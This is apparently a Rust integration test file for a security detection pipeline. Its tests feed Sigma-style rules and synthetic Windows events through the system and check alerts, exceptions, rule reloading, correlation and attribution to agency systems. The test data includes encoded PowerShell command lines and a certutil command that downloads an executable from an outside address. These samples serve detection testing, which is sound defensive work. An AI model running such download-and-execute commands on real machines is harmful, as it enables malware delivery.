//! The pipeline end to end on its real parts: a durable log bus, a tantivy event store and
//! a SQLite state database in a temporary directory, with rules from a rule directory.
//! Batches go in through the intake, and the tests look at alerts, stored events, and how
//! exceptions, enable/disable, rule-file changes and correlations change the outcome.

use chrono::{Duration as TimeDelta, Utc};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};
use vigil_bus::{LogBus, LogBusConfig};
use vigil_detect::RuleLoad;
use vigil_event::Event;
use vigil_pipeline::intake::{IngestBatch, Record, Source};
use vigil_pipeline::metrics::Metrics;
use vigil_pipeline::process::ProcessConfig;
use vigil_pipeline::{Pipeline, PipelineConfig};
use vigil_store::db::{Alert, AlertFilter, Db, MatchKind, NewRuleException, Tenant};
use vigil_store::events::{EventStore, TantivyEventStore, TimeRange};

const RULES: &str = "\
title: Encoded PowerShell
id: 11111111-0000-4000-8000-000000000001
name: encoded_powershell
level: high
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\\powershell.exe', CommandLine|contains: ' -enc '}
  condition: sel
---
title: Failed logon
id: 11111111-0000-4000-8000-000000000002
name: failed_logon
level: low
logsource: {product: windows, service: security}
detection: {sel: {EventID: 4625}, condition: sel}
---
title: Password guessing from one address
id: 11111111-0000-4000-8000-000000000003
level: high
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 5m
  condition: {gte: 3}
generate: true
";

struct Harness {
    _dir: tempfile::TempDir,
    rules_dir: std::path::PathBuf,
    db: Db,
    store: Arc<TantivyEventStore>,
    pipeline: Pipeline,
    agency: String,
}

async fn start(dir: tempfile::TempDir) -> Harness {
    let rules_dir = dir.path().join("rules");
    std::fs::create_dir_all(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("test.yml"), RULES).unwrap();
    let db = Db::open(&format!(
        "sqlite://{}",
        dir.path().join("state.db").display()
    ))
    .await
    .unwrap();
    let store = Arc::new(TantivyEventStore::open(dir.path().join("events")).unwrap());
    let bus = Arc::new(LogBus::open(&dir.path().join("bus"), LogBusConfig::default()).unwrap());
    let agency = match db.agency_by_name("So Y te").await.unwrap() {
        Some(a) => a.id,
        None => db.create_agency("So Y te", None, "test").await.unwrap().id,
    };
    if db.list_source_addresses().await.unwrap().is_empty() {
        db.add_source_address("10.20.0.0/16", &agency, Some("EMR portal"), "test")
            .await
            .unwrap();
    }
    let pipeline = Pipeline::start(
        db.clone(),
        store.clone(),
        bus,
        Arc::new(Metrics::new()),
        PipelineConfig {
            rules: RuleLoad::new(vec![rules_dir.clone()]),
            process: ProcessConfig {
                commit_interval: Duration::from_millis(100),
                ..ProcessConfig::default()
            },
            intake_capacity: 16,
            retention_days: 0,
        },
    )
    .await
    .unwrap();
    Harness {
        _dir: dir,
        rules_dir,
        db,
        store,
        pipeline,
        agency,
    }
}

fn process_event(host: &str, command_line: &str) -> Event {
    let mut e = Event::default();
    e.timestamp = Some(Utc::now());
    e.push("Channel", "Microsoft-Windows-Sysmon/Operational");
    e.push("EventID", 1i64);
    e.push("Computer", host);
    e.push(
        "Image",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    );
    e.push("CommandLine", command_line);
    e
}

fn failed_logon(host: &str, ip: &str, at: chrono::DateTime<Utc>) -> Event {
    let mut e = Event::default();
    e.timestamp = Some(at);
    e.push("Channel", "Security");
    e.push("EventID", 4625i64);
    e.push("Computer", host);
    e.push("IpAddress", ip);
    e
}

fn batch(events: Vec<Event>) -> IngestBatch {
    IngestBatch {
        source: Source::SyslogTcp,
        agency_id: None,
        peer: Some("10.20.1.5".parse().unwrap()),
        received_at: Utc::now(),
        records: events
            .into_iter()
            .map(|event| Record {
                raw: format!("{:?}", event.get("CommandLine")),
                event,
                truncated: false,
            })
            .collect(),
    }
}

impl Harness {
    async fn alerts(&self) -> Vec<Alert> {
        self.db
            .list_alerts(&AlertFilter::default(), &Tenant::All)
            .await
            .unwrap()
            .0
    }

    async fn alert_of(&self, title: &str) -> Option<Alert> {
        self.alerts()
            .await
            .into_iter()
            .find(|a| a.rule_title == title)
    }

    /// Waits until every submitted event is stored (the pipeline is then idle).
    async fn stored(&self, expected: u64) {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let total = self
                .store
                .search(&"*".parse().unwrap(), TimeRange::ALL, 1, 0, None)
                .unwrap()
                .total;
            if total >= expected {
                assert_eq!(total, expected, "more events stored than sent");
                return;
            }
            assert!(
                Instant::now() < deadline,
                "only {total} of {expected} events stored"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn reload_and_wait(&self, check: impl Fn(&Pipeline) -> bool) {
        self.pipeline.catalog.request_reload();
        let deadline = Instant::now() + Duration::from_secs(20);
        while !check(&self.pipeline) {
            assert!(Instant::now() < deadline, "reload did not take effect");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detections_become_attributed_folded_alerts_and_events_are_stored() {
    let h = start(tempfile::tempdir().unwrap()).await;
    let events = vec![
        process_event("EMR-WEB01", "powershell.exe -nop -enc SQBFAFgA"),
        process_event("EMR-WEB01", "powershell.exe -w hidden -enc SQBFAFgA"),
        process_event("EMR-WEB01", "powershell.exe Get-ChildItem"),
    ];
    h.pipeline.intake.submit(batch(events)).await.unwrap();
    h.stored(3).await;
    let alert = h
        .alert_of("Encoded PowerShell")
        .await
        .expect("alert raised");
    assert_eq!(
        alert.count, 2,
        "two matches on one host fold into one alert"
    );
    assert_eq!(
        alert.agency_id, h.agency,
        "attributed by the sender's address"
    );
    assert_eq!(alert.system.as_deref(), Some("EMR portal"));
    assert_eq!(alert.host, "EMR-WEB01");
    assert_eq!(alert.sample_event_ids.len(), 2);
    let stored = h
        .store
        .search(
            &"CommandLine:*enc*".parse().unwrap(),
            TimeRange::ALL,
            10,
            0,
            Some(&h.agency),
        )
        .unwrap();
    assert_eq!(stored.total, 2);
    assert_eq!(stored.events[0].system, "EMR portal");
    let catalog_hits = h
        .pipeline
        .catalog
        .get("11111111-0000-4000-8000-000000000001")
        .unwrap()
        .hits;
    assert_eq!(catalog_hits, 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exceptions_and_disabled_rules_stop_alerts() {
    let h = start(tempfile::tempdir().unwrap()).await;
    let rule = "11111111-0000-4000-8000-000000000001";
    h.db.add_rule_exception(
        &NewRuleException {
            rule_id: rule.into(),
            agency_id: Some(h.agency.clone()),
            field: "Computer".into(),
            match_kind: MatchKind::Wildcard,
            pattern: "build-*".into(),
            comment: Some("build servers encode scripts".into()),
        },
        "analyst",
    )
    .await
    .unwrap();
    h.reload_and_wait(|_| true).await;
    // Give the watcher time to apply the settings.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let encoded = "powershell.exe -enc SQBFAFgA";
    h.pipeline
        .intake
        .submit(batch(vec![
            process_event("BUILD-07", encoded),
            process_event("HR-PC01", encoded),
        ]))
        .await
        .unwrap();
    h.stored(2).await;
    let alerts = h.alerts().await;
    let hosts: Vec<&str> = alerts.iter().map(|a| a.host.as_str()).collect();
    assert_eq!(hosts, ["HR-PC01"], "the exception suppressed BUILD-07 only");

    h.db.set_rule_enabled(rule, false, "analyst").await.unwrap();
    h.reload_and_wait(|p| p.catalog.get(rule).is_some_and(|r| !r.rule.enabled))
        .await;
    h.pipeline
        .intake
        .submit(batch(vec![process_event("HR-PC02", encoded)]))
        .await
        .unwrap();
    h.stored(3).await;
    assert_eq!(h.alerts().await.len(), 1, "a disabled rule raises nothing");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rule_files_are_reloaded_when_they_change() {
    let h = start(tempfile::tempdir().unwrap()).await;
    let new_rule = "\
title: Certutil download
id: 22222222-0000-4000-8000-000000000001
level: medium
logsource: {product: windows, category: process_creation}
detection: {sel: {CommandLine|contains|all: [certutil, urlcache]}, condition: sel}
";
    std::fs::write(h.rules_dir.join("new.yml"), new_rule).unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while h
        .pipeline
        .catalog
        .get("22222222-0000-4000-8000-000000000001")
        .is_none()
    {
        assert!(Instant::now() < deadline, "new rule file not picked up");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    h.pipeline
        .intake
        .submit(batch(vec![process_event(
            "EMR-WEB02",
            "certutil -urlcache -f http://203.0.113.7/a.exe a.exe",
        )]))
        .await
        .unwrap();
    h.stored(1).await;
    assert!(h.alert_of("Certutil download").await.is_some());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn correlations_alert_per_group_and_feeders_fold() {
    let h = start(tempfile::tempdir().unwrap()).await;
    let t0 = Utc::now() - TimeDelta::minutes(3);
    let mut events: Vec<Event> = (0..4)
        .map(|i| failed_logon("DC01", "198.51.100.23", t0 + TimeDelta::seconds(i)))
        .collect();
    // Two from another address: under the threshold.
    events
        .extend((0..2).map(|i| failed_logon("DC01", "198.51.100.99", t0 + TimeDelta::seconds(i))));
    h.pipeline.intake.submit(batch(events)).await.unwrap();
    h.stored(6).await;
    let deadline = Instant::now() + Duration::from_secs(20);
    let correlation = loop {
        if let Some(a) = h.alert_of("Password guessing from one address").await {
            break a;
        }
        assert!(Instant::now() < deadline, "no correlation alert");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(correlation.level.as_str(), "high");
    assert_eq!(correlation.host, "DC01");
    assert_eq!(correlation.count, 1, "one group crossed the threshold");
    let feeder = h
        .alert_of("Failed logon")
        .await
        .expect("generate: true keeps feeders");
    assert_eq!(feeder.count, 6);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn acknowledged_batches_survive_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().to_owned();
    let h = start(dir).await;
    for i in 0..5 {
        let events = (0..100)
            .map(|j| process_event(&format!("PC{i}"), &format!("cmd /c echo {j}")))
            .collect();
        h.pipeline.intake.submit(batch(events)).await.unwrap();
    }
    let Harness {
        _dir,
        pipeline,
        db,
        store,
        ..
    } = h;
    pipeline.shutdown().await;
    db.close().await;
    drop(store);
    let again = start(_dir).await;
    again.stored(500).await;
    assert!(Path::new(&path).exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn events_from_a_registered_system_raise_alerts_with_its_system_and_level() {
    use vigil_store::db::{AddressKind, AlertLevel, SystemAddress, SystemDetails};
    let dir = tempfile::tempdir().unwrap();
    let db = Db::open(&format!(
        "sqlite://{}",
        dir.path().join("state.db").display()
    ))
    .await
    .unwrap();
    let justice = db.create_agency("So Tu phap", None, "test").await.unwrap();
    db.add_source_address("10.30.0.0/16", &justice.id, None, "test")
        .await
        .unwrap();
    let address = |address: &str, kind| SystemAddress {
        address: address.into(),
        kind,
        internet_facing: false,
    };
    let mut records = SystemDetails::new("Ly lich tu phap", 3);
    records.addresses = vec![address("10.30.5.7", AddressKind::Ip)];
    db.create_system(&justice.id, &records, "test")
        .await
        .unwrap();
    let mut registry = SystemDetails::new("Ho tich", 2);
    registry.addresses = vec![
        address("tp-app02", AddressKind::Host),
        address("https://hotich.example.gov.vn/tra-cuu", AddressKind::Url),
    ];
    db.create_system(&justice.id, &registry, "test")
        .await
        .unwrap();
    db.close().await;

    let h = start(dir).await;
    let from = |peer: &str, event: Event| {
        let mut b = batch(vec![event]);
        b.peer = Some(peer.parse().unwrap());
        b
    };
    let intake = &h.pipeline.intake;
    // By the registered IP address.
    intake
        .submit(from(
            "10.30.5.7",
            process_event("TP-DB01", "powershell -enc AAAA"),
        ))
        .await
        .unwrap();
    // By the registered host name and by a URL's host, within the agency's block.
    intake
        .submit(from(
            "10.30.9.9",
            process_event("TP-APP02", "powershell -enc BBBB"),
        ))
        .await
        .unwrap();
    intake
        .submit(from(
            "10.30.9.10",
            process_event("hotich.example.gov.vn", "powershell -enc CCCC"),
        ))
        .await
        .unwrap();
    h.stored(3).await;
    let alerts = h.alerts().await;
    let on = |host: &str| alerts.iter().find(|a| a.host == host).expect(host);
    let records_alert = on("TP-DB01");
    assert_eq!(records_alert.agency_id, justice.id);
    assert_eq!(records_alert.system.as_deref(), Some("Ly lich tu phap"));
    assert_eq!(records_alert.system_level, Some(3));
    assert_eq!(records_alert.level, AlertLevel::High);
    assert_eq!(
        records_alert.priority,
        AlertLevel::Critical,
        "level 3 raises it"
    );
    for host in ["TP-APP02", "hotich.example.gov.vn"] {
        let alert = on(host);
        assert_eq!(alert.system.as_deref(), Some("Ho tich"), "{host}");
        assert_eq!(alert.system_level, Some(2));
        assert_eq!(alert.priority, AlertLevel::High, "level 2 leaves it");
    }
    let stored = h
        .store
        .search(&"host:TP-DB01".parse().unwrap(), TimeRange::ALL, 1, 0, None)
        .unwrap();
    assert_eq!(stored.events[0].system, "Ly lich tu phap");
}
